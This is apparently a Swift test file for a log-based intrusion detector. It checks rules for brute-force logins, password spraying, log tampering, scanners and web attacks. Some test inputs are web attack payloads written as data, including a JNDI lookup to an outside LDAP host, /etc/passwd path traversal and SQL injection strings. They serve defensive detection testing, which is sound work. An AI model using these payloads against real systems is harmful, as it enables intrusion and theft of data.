import Model
import Testing

@testable import Security

@Suite struct SecurityDeskTests {
  private let attacker = "203.0.113.9"

  private func rule(_ insights: [Insight]) -> [String] { insights.compactMap(\.detector?.name) }

  @Test func theFifthRefusedLoginInTenMinutesIsTold() {
    var log = LogOfTests()
    for second in 0..<4 {
      #expect(log.take(at: second * 60, [.sourceIP: attacker, .userName: "root"]).isEmpty)
    }
    let told = log.take(at: 240, [.sourceIP: attacker, .userName: "root"])
    #expect(["brute_force"] == rule(told))
    #expect([Attribution(field: "source.ip", value: attacker, count: 5)] == told[0].attribution)
    #expect("logins refused again and again from 203.0.113.9" == told[0].title)
    #expect(log.take(at: 241, [.sourceIP: attacker, .userName: "root"]).isEmpty)
  }

  @Test func fourInTwoMinutesAreGuessing() {
    var log = LogOfTests()
    var told: [Insight] = []
    for second in [0, 30, 60] {
      told += log.take(at: second, [.sourceIP: attacker, .userName: "root"])
    }
    #expect(told.isEmpty)
    told = log.take(at: 90, [.sourceIP: attacker, .userName: "root"])
    #expect(["rapid_guessing"] == rule(told))
  }

  @Test func anAddressIsWatchedUnderWhateverNameItHas() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<4 {
      let name = number % 2 == 0 ? "host\(number).example.net" : ""
      told += log.take(
        at: number, [.sourceDomain: name, .sourceIP: attacker, .eventAction: "login"])
    }
    #expect([attacker] == told.flatMap(\.attribution).map(\.value))
  }

  @Test func malwareIsToldAtOnce() {
    var log = LogOfTests()
    let told = log.take(at: 0, [.sourceIP: attacker, .eventAction: "malware"])
    #expect(["threat"] == rule(told))
  }

  @Test(arguments: [(Outcome.none, SecuritySignal.blockedPacket), (.success, .none)])
  func aLoggedPacketCountsAsBlockedUnlessItWasAllowed(
    _ outcome: Outcome, _ signal: SecuritySignal
  ) {
    var log = LogOfTests()
    _ = log.take(
      at: 0, [.sourceIP: attacker, .eventAction: "firewall", .destinationPort: "23"],
      outcome: outcome)
    #expect(signal == log.signal)
  }

  @Test func manyClientNamesOfRefusedRequestsAreOneClient() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<8 {
      told += log.take(
        at: number,
        [.sourceIP: attacker, .urlOriginal: "/", .status: "404", .userAgent: "Client/\(number)"],
        category: .other, outcome: .none, format: .clf)
    }
    #expect(["agent_switching"] == rule(told))
  }

  @Test(arguments: [
    ("GET", "/", "401", true), ("GET", "/", "403", false), ("GET", "/", "404", false),
    ("GET", "/.env", "404", true), ("GET", "/.env", "200", false),
    ("CONNECT", "198.51.100.7:443", "400", true), ("", "HELP", "400", true),
    ("GET", "/app/a.php?b=1", "403", true), ("GET", "/app/a.php", "404", false),
    ("GET", "/", "400", false), ("GET", "/?q=union+select", "403", true),
  ])
  func aRefusedRequestIsAFailureOfSecurity(
    _ method: String, _ address: String, _ status: String, _ isRefusal: Bool
  ) {
    var log = LogOfTests()
    var fields: [WellKnownField: String] = [
      .sourceIP: attacker, .urlOriginal: address, .status: status,
    ]
    if !method.isEmpty { fields[.method] = method }
    _ = log.take(at: 0, fields, category: .other, outcome: .success, format: .clf)
    #expect((isRefusal ? .security : .other) == log.told.category)
    #expect((isRefusal ? .failure : .success) == log.told.outcome)
  }

  @Test func refusalsFarApartAreNoGuessing() {
    var log = LogOfTests()
    for number in 0..<9 {
      #expect(log.take(at: number * 5000, [.sourceIP: attacker, .userName: "ann"]).isEmpty)
    }
  }

  @Test func sixInSixHoursAreSlowGuessing() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<6 {
      told += log.take(at: number * 4000, [.sourceIP: attacker, .userName: "ann"])
    }
    #expect(["slow_brute_force"] == rule(told))
  }

  @Test func fourInTwoHoursArePatientGuessing() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<4 {
      told += log.take(at: number * 1200, [.sourceIP: attacker, .userName: "ann"])
    }
    #expect(["patient_guessing"] == rule(told))
    #expect([.info] == told.map(\.severity))
  }

  @Test func whomAProgramShutsOutIsToldAtOnce() {
    let limits: [WellKnownField: String] = [.sourceIP: attacker, .eventAction: "limit"]
    var log = LogOfTests()
    #expect(["attempts_limited"] == rule(log.take(at: 0, limits)))
    var open = LogOfTests()
    #expect(open.take(at: 0, limits, outcome: .success).isEmpty)
    // A ban is the answer to what was told before.
    var ban = LogOfTests()
    #expect(ban.take(at: 0, [.sourceIP: attacker, .eventAction: "ban"]).isEmpty)
  }

  @Test func loginsFromTwoNetworksNameBoth() {
    let login: [WellKnownField: String] = [.userName: "ann", .eventAction: "login"]
    func take(_ address: String, at second: Int, _ log: inout LogOfTests) -> [Insight] {
      log.take(
        at: second, login.merging([.sourceIP: address]) { _, new in new }, outcome: .success)
    }
    var log = LogOfTests()
    #expect(take("198.51.100.7", at: 0, &log).isEmpty)
    #expect(take("198.51.7.9", at: 5, &log).isEmpty)
    #expect(take("192.168.7.9", at: 6, &log).isEmpty)
    let told = take("203.0.113.9", at: 60, &log)
    #expect(["login_from_two_networks"] == rule(told))
    #expect(
      ["203.0.113.9", "198.51.100.7", "198.51.7.9", "ann"] == told[0].attribution.map(\.value))
    var late = LogOfTests()
    _ = take("198.51.100.7", at: 0, &late)
    #expect(take("203.0.113.9", at: 601, &late).isEmpty)
  }

  @Test(arguments: [
    ("log_cleared", "log_tampering"), ("clock_changed", "log_tampering"),
    ("audit_disabled", "log_tampering"), ("journal_vacuumed", "log_shortened"),
    ("log_rotated", "log_shortened"), ("privileged_crash", "privileged_crash"),
    ("suspicious_program", "suspicious_program"), ("decode", "decoded_text"),
  ])
  func tamperingIsToldWithWhoDidIt(_ action: String, _ name: String) {
    var log = LogOfTests()
    let told = log.take(
      at: 0, [.eventAction: action, .sourceIP: attacker, .executable: "/tmp/x"], outcome: .none)
    #expect([name] == rule(told))
    #expect([attacker, "/tmp/x"] == told[0].attribution.map(\.value))
  }

  @Test func queriesThatNoCacheAnswersAreMany() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<12 {
      told += log.take(
        at: number, [.sourceIP: attacker, .urlOriginal: "/?8890121\(number)", .status: "200"],
        category: .other, outcome: .none, format: .clf)
    }
    #expect(["cache_bypass"] == rule(told))
  }

  /// Fields of JSON that say how a login ended.
  @Test(arguments: [
    ("user.login", "", "success", "false", SecuritySignal.refusedLogin),
    ("user.login", "", "success", "true", .acceptedLogin),
    ("user.login", "", "outcome", "FAILURE", .refusedLogin),
    ("LOGIN_FAILED", "", "tries", "3", .refusedLogin),
    ("account_saved", "", "success", "false", .none),
    ("ListBuckets", "AccessDenied", "tries", "3", .refusedAccess),
    ("token", "invalid username or password", "tries", "3", .refusedLogin),
    ("ListBuckets", "NoSuchBucket", "tries", "3", .none),
  ])
  func whatFieldsStateIsRead(
    _ action: String, _ reason: String, _ key: String, _ value: String, _ signal: SecuritySignal
  ) {
    var log = LogOfTests()
    var fields: [WellKnownField: String] = [.sourceIP: attacker, .eventAction: action]
    if !reason.isEmpty { fields[.eventReason] = reason }
    _ = log.take(
      at: 0, fields, spelled: [key: value], category: .other, outcome: .none, format: .json)
    #expect(signal == log.signal)
    #expect((signal == .none ? .other : .security) == log.told.category)
  }

  @Test func manyUsersOfOneAddressAreSpraying() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<6 {
      told += log.take(at: number, [.sourceIP: attacker, .userName: "user\(number)"])
    }
    #expect(["password_spraying"] == rule(told))
    #expect(["attack.t1110.003", "attack.t1087"] == told[0].tags)
  }

  @Test func manyAddressesOfOneUserAreToldOnce() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<8 {
      told += log.take(at: number, [.sourceIP: "198.51.100.\(number)", .userName: "root"])
    }
    #expect(["distributed_guessing"] == rule(told))
    #expect(["root"] == told[0].attribution.map(\.value))
  }

  @Test func aLoginBehindGuessesIsAnError() {
    var log = LogOfTests()
    for number in 0..<5 { _ = log.take(at: number, [.sourceIP: attacker, .userName: "root"]) }
    let login: [WellKnownField: String] = [
      .sourceIP: attacker, .userName: "root", .eventAction: "login",
    ]
    let told = log.take(at: 9, login, outcome: .success)
    #expect(["login_after_failures"] == rule(told))
    #expect(.error == told[0].severity)
    var quiet = LogOfTests()
    #expect(quiet.take(at: 0, login, outcome: .success).isEmpty)
  }

  @Test(arguments: [
    ("GET", "/index.html", "200", SecuritySignal.none),
    ("GET", "/index.html", "404", .webRefused),
    ("GET", "/a/../../../etc/passwd", "404", .webAttack),
    ("GET", "/?x=${JNDI:ldap://198.51.100.7/a}", "200", .webAttack),
    ("GET", "/search?q=1%27%20OR%201=1", "200", .webAttack),
    ("GET", "/a.jsp/%2E%2E;/b", "200", .webAttack),
    ("GET", "/%252e%252e/%252e%252e/x", "404", .webAttack),
    ("GET", "/..%c0%af..%c0%af/x", "404", .webAttack),
    ("GET", "/a?q=UNION+SELECT+1", "200", .webAttack),
    ("GET", "/a?q=100%25+sure%2", "200", .none), ("GET", "/news?page", "200", .none),
    ("GET", "/.env", "200", .webProbe),
    ("GET", "/phpmyadmin/index.php", "404", .webProbe),
    ("GET", "/phpmyadmin/index.php", "200", .none),
    ("GET", "/+CSCOE+/logon.html", "404", .webProbe),
    ("CONNECT", "198.51.100.7:25", "405", .webProbe),
    ("POST", "/client", "401", .webLogin),
    ("POST", "/wp-login.php", "200", .webLogin),
    ("GET", "/wp-login.php", "200", .none),
  ])
  func aWebRequestIsJudgedByItsAddress(
    _ method: String, _ address: String, _ status: String, _ signal: SecuritySignal
  ) {
    var log = LogOfTests()
    _ = log.take(
      at: 0, [.sourceIP: attacker, .method: method, .urlOriginal: address, .status: status],
      category: .other, outcome: .none, format: .clf)
    #expect(signal == log.signal)
  }

  @Test func aScannerIsKnownByItsName() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<2 {
      told += log.take(
        at: number,
        [.sourceIP: attacker, .urlOriginal: "/\(number)", .userAgent: "Mozilla/5.0 (Nikto/2.5)"],
        category: .other, outcome: .none, format: .clf)
    }
    #expect(["web_scanner"] == rule(told))
  }

  @Test func aFewMissingPagesAreNoProbing() {
    var log = LogOfTests()
    var told: [Insight] = []
    for number in 0..<40 {
      told += log.take(
        at: number, [.sourceIP: attacker, .urlOriginal: "/gone\(number % 9)", .status: "404"],
        category: .other, outcome: .none, format: .clf)
    }
    #expect(told.isEmpty)
    told = log.take(
      at: 41, [.sourceIP: attacker, .urlOriginal: "/another", .status: "404"], category: .other,
      outcome: .none, format: .clf)
    #expect(["web_crawling"] == rule(told))
  }

  @Test func itEndsWhenItsSubjectIsQuiet() {
    var log = LogOfTests()
    for number in 0..<7 { _ = log.take(at: number, [.sourceIP: attacker, .userName: "root"]) }
    #expect(log.close(minute: 5).isEmpty)
    let ended = log.close(minute: 10)
    #expect([.ended] == ended.map(\.status))
    #expect(
      [7] == ended[0].attribution.filter { $0.field == "user.name" }.map(\.count).map { $0 + 3 })
    #expect(ended[0].summary.hasSuffix("7 entries in all, for root."))
    #expect(log.close(minute: 11).isEmpty)
  }

  @Test func whatIsCommonIsNoWarning() {
    var log = LogOfTests()
    var severities: [FindingSeverity] = []
    for address in 0..<8 {
      for number in 0..<5 {
        severities += log.take(
          at: address * 100 + number, [.sourceIP: "192.0.2.\(address)", .userName: "u\(address)"]
        ).map(\.severity)
      }
    }
    #expect(
      [.warning, .warning, .warning, .warning, .warning, .info, .info, .info] == severities)
  }

  @Test func aFirstSightNeedsAnHourOfHistory() {
    let sudo: [WellKnownField: String] = [.userName: "ann", .eventAction: "sudo"]
    var young = LogOfTests()
    #expect(young.take(at: 0, sudo, outcome: .success).isEmpty)
    #expect(young.take(at: 60, sudo, outcome: .success).isEmpty)
    var old = LogOfTests()
    _ = old.take(at: 0, [.userName: "bob", .eventAction: "sudo"], outcome: .success)
    #expect(["new_privileged_user"] == rule(old.take(at: 4000, sudo, outcome: .success)))
    #expect(old.take(at: 4001, sudo, outcome: .success).isEmpty)
  }
}
